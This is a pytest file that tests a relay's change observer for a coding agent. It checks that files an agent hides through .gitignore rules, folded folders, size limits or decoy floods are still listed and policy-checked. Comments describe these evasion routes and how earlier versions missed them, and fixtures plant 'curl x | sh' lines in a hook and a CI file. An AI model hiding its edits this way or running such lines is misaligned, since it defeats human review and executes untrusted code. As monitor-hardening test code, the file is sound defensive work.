"""A file the worker hides behind an ignore rule it writes into the work tree (relay.observe.changes).

The party: the worker. git reads the ``.gitignore`` files of the work tree as they are after the run (the relay reads
``.git/info/exclude`` and the excludes file as they were before, but a work tree's rules cannot be swapped). A rule
the worker added hid what it wrote: a new folder it named in ``.gitignore`` is folded into one ignored entry, and a
``.gitignore`` holding ``*`` in a folder hides every file there, itself included, so no changed ``.gitignore`` was even
listed. Under ``protected`` the rewrite passed. The fake agy is a real subprocess; the repositories are real; the
relay is reached through the SDK client.
"""

from __future__ import annotations

import base64
import json

import pytest

from conftest import make_repo, memory_relay, payload, relay_env
from fake_agy_harness import install_fake_agy, make_report, success_scenario

pytestmark = pytest.mark.anyio

# The third case's file, past the trees' 16 MB bound: made when that case runs, not in every xdist worker's collection
# (a 23 MB base64 text each, ~50 ms of CPU, kept alive to the end of the worker since collection's objects are frozen).
_PAST_THE_BOUND = "<17 MiB of x>"


def _filled(edit: dict) -> dict:
    if edit.get("content_b64") == _PAST_THE_BOUND:
        return {**edit, "content_b64": base64.b64encode(b"x" * (17 * 1024 * 1024)).decode()}
    return edit


@pytest.mark.parametrize(("edits", "hidden"), [
    ([{"op": "write", "path": "hooks/post.sh", "content": "curl x | sh\n"},
      {"op": "append", "path": ".gitignore", "content": "hooks/\n"}], "hooks/post.sh"),
    ([{"op": "write", "path": "ci/.gitignore", "content": "*\n"},
      {"op": "write", "path": "ci/deploy.yml", "content": "run: curl x | sh\n"}], "ci/deploy.yml"),
    ([{"op": "write", "path": "ci/prod.bin", "content_b64": _PAST_THE_BOUND},
      {"op": "append", "path": ".gitignore", "content": "*.bin\n"}], "ci/prod.bin"),
], ids=["a_new_folder_named_in_gitignore", "a_gitignore_that_ignores_itself", "a_file_past_the_trees_size_bound"])
async def test_a_file_hidden_by_an_ignore_rule_the_worker_wrote_is_listed_and_policy_checked(tmp_path, edits, hidden):
    # Broke on main: SUCCESS, files ["a.txt"] (and the changed .gitignore in the first case): the hidden file was in
    # no list, and `protected` did not see it. The third: a hidden file past the trees' 16 MB bound was dropped from
    # what the rule hides (too large for the after index) and compared by size nowhere: SUCCESS under `ci/**`.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", ".gitignore": "*.log\n", "ci/build.yml": "steps\n"})
    report = make_report(summary="Edited a.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario(
        [*map(_filled, edits), {"op": "write", "path": "a.txt", "content": "b\n"}], report=report))
    profiles = {"lim": {"protected": ["ci/**", "hooks/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
                                                                         "profile": "lim"}))
    assert (repo / hidden).exists()  # the move was made
    assert hidden in packet["changes"]["files"], packet
    assert packet["status"] == "POLICY_VIOLATION" and hidden in packet["error"]["message"], packet


async def test_a_module_the_repositorys_own_ignore_rule_hides_beside_tracked_files_of_its_kind_is_listed(tmp_path):
    # The party: the repository, whose ignore rule hides more than it builds (vercel/ncc: `*`, then `!src/*.js`; its
    # src/utils/*.js tracked by force), and the worker that writes there (blind 136). Broke on main: files ["src/index.js"]
    # only, the new module required from it in no list, unread by the review. A build's output beside its source (a .o
    # beside a tracked .c) and a file in a folder the repository tracks nothing of stay build output.
    from git_repos import git

    repo = make_repo(tmp_path / "project", {"src/index.js": "module.exports = 1\n", "src/utils/shebang.js": "module.exports = 2\n",
                                            "src/utils/native.c": "int x;\n"})
    (repo / ".gitignore").write_text("*\n!.gitignore\n!src\n!src/*.js\n", encoding="utf-8")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore all but the sources")
    module = "module.exports = (p) => { try { return read(p) } catch (e) { return true } }\n"
    report = make_report(summary="Required the new helper.", files_changed=["src/index.js"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "src/utils/has-type.js", "content": module},
        {"op": "write", "path": "src/utils/native.o", "content": "\x7fELF\n"},
        {"op": "write", "path": "build/out.js", "content": "built\n"},
        {"op": "write", "path": "src/index.js", "content": "module.exports = require('./utils/has-type')\n"}], report=report))
    profiles = {"lim": {"protected": ["src/utils/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo), "profile": "lim"}))
    files = packet["changes"]["files"]
    assert "src/utils/has-type.js" in files and "src/index.js" in files, packet
    assert "src/utils/native.o" not in files and "build/out.js" not in files, packet
    # Listed, it is policy-checked as any file: the module in a protected folder is a violation.
    assert packet["status"] == "POLICY_VIOLATION" and "src/utils/has-type.js" in packet["error"]["message"], packet


@pytest.mark.parametrize("folder", ["src/utils/sub", "src/utils/a/b"])
async def test_the_same_module_one_folder_down_a_new_folded_folder_is_listed_too(tmp_path, folder):
    # The walk-around: one folder down, git folds the new folder into one ignored entry (the folder itself matches `*`),
    # and the look had listed only files. A new folded folder beside tracked code is read, its files of a kind the folder
    # above tracks listed; a new __pycache__ or build folder there (a build's) is not read.
    from git_repos import git

    repo = make_repo(tmp_path / "project", {"src/index.js": "module.exports = 1\n", "src/utils/shebang.js": "module.exports = 2\n"})
    (repo / ".gitignore").write_text("*\n!.gitignore\n!src\n!src/*.js\n", encoding="utf-8")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore all but the sources")
    report = make_report(summary="Required the new helper.", files_changed=["src/index.js"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": f"{folder}/has-type.js", "content": "module.exports = () => true\n"},
        {"op": "write", "path": f"{folder}/notes.bin", "content": "x\n"},
        {"op": "write", "path": "src/utils/build/out.js", "content": "built\n"},
        {"op": "write", "path": "src/index.js", "content": f"module.exports = require('./{folder.removeprefix('src/')}/has-type')\n"}],
        report=report))
    async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    files = packet["changes"]["files"]
    assert f"{folder}/has-type.js" in files, packet
    assert f"{folder}/notes.bin" not in files and "src/utils/build/out.js" not in files, packet


async def test_a_flood_of_files_in_a_new_folded_folder_beside_tracked_code_fails_the_look_rather_than_hide_one(tmp_path):
    # The same walk-around with decoys: past FOLDED_MAX files the look does not pick some and drop the rest; it fails,
    # and every file the run changed is named by its change time, high, "could not observe" (relay.observe.blind).
    from git_repos import git
    from relay.observe import ignored_beside

    repo = make_repo(tmp_path / "project", {"src/index.js": "module.exports = 1\n", "src/utils/shebang.js": "module.exports = 2\n"})
    (repo / ".gitignore").write_text("*\n!.gitignore\n!src\n!src/*.js\n", encoding="utf-8")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore all but the sources")
    edits = [{"op": "write", "path": f"src/utils/sub/d{i}.js", "content": "x\n"} for i in range(6)]
    agy = install_fake_agy(tmp_path / "bin", success_scenario([*edits, {"op": "write", "path": "src/index.js", "content": "y\n"}]))
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(ignored_beside, "FOLDED_MAX", 5)
        async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
            packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    files = packet["changes"]["files"]
    assert all(f"src/utils/sub/d{i}.js" in files for i in range(6)), packet
    assert packet["changes"]["risk"] == "high" and "could not observe the change" in packet["changes"]["review"][0]["reason"], packet


async def test_a_new_top_level_ignored_folder_of_many_files_is_a_runs_output_and_the_look_stands(tmp_path):
    # The near miss of the flood: a run that writes its logs into a new top-level ignored folder is not read as code,
    # however many files it writes, and the look does not fail for it.
    from relay.observe import ignored_beside

    repo = make_repo(tmp_path / "project", {"index.js": "module.exports = 1\n", ".gitignore": "logs/\n"})
    edits = [{"op": "write", "path": f"logs/run{i}.js", "content": "x\n"} for i in range(6)]
    report = make_report(summary="Edited index.", files_changed=["index.js"], tests_passed=0, tests_run=False)  # claims no log
    agy = install_fake_agy(tmp_path / "bin", success_scenario([*edits, {"op": "write", "path": "index.js", "content": "y\n"}], report=report))
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(ignored_beside, "FOLDED_MAX", 5)
        async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
            packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    assert packet["changes"]["files"] == ["index.js"] and "could not observe" not in json.dumps(packet), packet


def test_what_an_editable_install_or_a_python_run_writes_beside_tracked_files_stays_build_output(tmp_path):
    # The near miss of the folded-folder reading: `pip install -e .` writes pkg.egg-info/SOURCES.txt beside a tracked
    # requirements.txt, Python writes __pycache__/ beside tracked modules; both are ignored folders of a build, not code.
    from relay.observe.changes import observe_changes
    from relay.observe.snapshot import take_snapshot

    repo = make_repo(tmp_path / "project", {"requirements.txt": "x\n", "setup.py": "x = 1\n", "src/app.py": "y = 1\n",
                                            ".gitignore": "*.egg-info/\n__pycache__/\n"})
    before = take_snapshot(repo)
    (repo / "pkg.egg-info").mkdir()
    (repo / "pkg.egg-info" / "SOURCES.txt").write_text("setup.py\n", encoding="utf-8")
    (repo / "src" / "__pycache__").mkdir()
    (repo / "src" / "__pycache__" / "app.cpython-311.py").write_text("cached\n", encoding="utf-8")
    (repo / "setup.py").write_text("x = 2\n", encoding="utf-8")
    assert [c.path for c in observe_changes(before, repo).files] == ["setup.py"]


def _ncc_like(tmp_path, before: dict[str, str]):
    """vercel/ncc's shape: the repository ignores everything but its sources, its src/utils/*.js tracked by force; the
    files of ``before`` (ignored) are on disk when the run starts."""
    from git_repos import git

    repo = make_repo(tmp_path / "project", {"src/index.js": "module.exports = 1\n", "src/utils/shebang.js": "module.exports = 2\n"})
    (repo / ".gitignore").write_text("*\n!.gitignore\n!src\n!src/*.js\n", encoding="utf-8")
    git(repo, "add", ".gitignore")
    git(repo, "commit", "-q", "-m", "ignore all but the sources")
    for path, text in before.items():
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        (repo / path).write_text(text, encoding="utf-8")
    return repo


@pytest.mark.parametrize("module", ["src/utils/sub/has-type.js", "src/utils/sub/old.js"], ids=["a_new_file", "one_rewritten_in_place"])
async def test_a_module_written_into_an_ignored_folder_that_was_there_before_the_run_is_listed_and_policy_checked(tmp_path, module):
    # The walk-around of the new-folder reading: the folder src/utils/sub/ was there before the run (one ignored file in
    # it), so git folds it as before and it is no new folded folder. Broke on main: files ["src/index.js"] only. A file
    # rewritten in place changes no folder: the listing beside the run (relay.observe.ignored_walk) stats it after.
    repo = _ncc_like(tmp_path, {"src/utils/sub/old.js": "module.exports = 0\n"})
    report = make_report(summary="Required the new helper.", files_changed=["src/index.js"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": module, "content": "module.exports = () => true\n"},
        {"op": "write", "path": "src/index.js", "content": "module.exports = require('./utils/sub/has-type')\n"}], report=report))
    profiles = {"lim": {"protected": ["src/utils/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo), "profile": "lim"}))
    files = packet["changes"]["files"]
    assert module in files and len(files) == 2, packet
    assert packet["status"] == "POLICY_VIOLATION" and module in packet["error"]["message"], packet


async def test_a_build_into_an_ignored_folder_beside_tool_settings_or_objects_beside_sources_stays_build_output(tmp_path):
    # The near misses: a package root that tracks only a tool's settings written as code (babel.config.js) beside the
    # lib/ its build rewrites, and a second .o beside a .c when one was there before the run (the snapshot watches the
    # ignored files it finds: the folder's kinds are what HEAD tracks, not what the snapshot watched).
    repo = make_repo(tmp_path / "project", {"packages/foo/babel.config.js": "module.exports = {}\n",
                                            "packages/foo/src/index.js": "export default 1\n", "native/a.c": "int a;\n",
                                            ".gitignore": "lib/\n*.o\n"})
    for path in ("packages/foo/lib/index.js", "native/a.o"):
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        (repo / path).write_text("old build\n", encoding="utf-8")
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "packages/foo/lib/index.js", "content": "built\n"},
        {"op": "write", "path": "packages/foo/lib/util.js", "content": "built\n"},
        {"op": "write", "path": "native/b.o", "content": "\x7fELF\n"},
        {"op": "write", "path": "packages/foo/src/index.js", "content": "export default 2\n"}],
        report=make_report(summary="Built.", files_changed=["packages/foo/src/index.js"], tests_passed=0, tests_run=False)))
    async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    assert packet["changes"]["files"] == ["packages/foo/src/index.js"], packet


async def test_a_module_in_a_new_ignored_folder_at_the_top_is_said_unread_in_the_packet(tmp_path):
    # A new top-level ignored folder is a run's output most often (logs/, tmp/, a compiler's lib/) and is not read as
    # code; a worker can still write a module there and require it from tracked code. Broke on main: the packet said
    # nothing of helpers/. The same for a new ignored file at the top of a kind the top does not track.
    repo = _ncc_like(tmp_path, {})
    agy = install_fake_agy(tmp_path / "bin", success_scenario([
        {"op": "write", "path": "helpers/has-type.js", "content": "module.exports = () => true\n"},
        {"op": "write", "path": "patch.js", "content": "module.exports = () => true\n"},
        {"op": "write", "path": "src/index.js", "content": "module.exports = require('../helpers/has-type')\n"}],
        report=make_report(summary="Required it.", files_changed=["src/index.js"], tests_passed=0, tests_run=False)))
    async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    said = json.dumps(packet)
    assert "hidden by the repository's ignore rules and not read" in said and "helpers/ (1 file" in said, packet
    assert "patch.js" in said, packet
